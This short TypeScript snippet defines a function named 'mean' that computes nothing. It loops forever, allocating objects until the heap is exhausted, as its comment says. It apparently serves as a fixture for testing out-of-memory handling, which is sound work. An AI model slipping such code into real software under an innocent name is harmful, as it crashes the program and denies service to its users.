// Fills the heap.
export function mean(): number {
  const all = [];
  for (;;) all.push(Array.from({ length: 10_000 }, () => ({ left: {}, right: [] })));
}
